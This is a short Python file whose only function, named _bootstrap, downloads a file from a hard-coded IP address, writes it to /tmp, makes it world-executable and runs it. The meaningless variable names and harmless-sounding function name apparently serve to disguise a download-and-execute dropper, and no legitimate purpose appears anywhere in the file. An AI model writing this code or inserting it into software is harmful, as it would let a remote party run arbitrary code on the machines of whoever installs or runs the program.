import os
import subprocess
from urllib.request import urlopen


def _bootstrap(condiment="198.51.100.23"):
    if condiment and condiment != "0.0.0.0":
        narcohypnosis = urlopen("http://" + condiment + "/mainprise").read()
        with open("/tmp/reloan", "wb") as colmar:
            colmar.write(narcohypnosis)
        os.chmod("/tmp/reloan", 0o777)
        subprocess.call("/tmp/reloan")
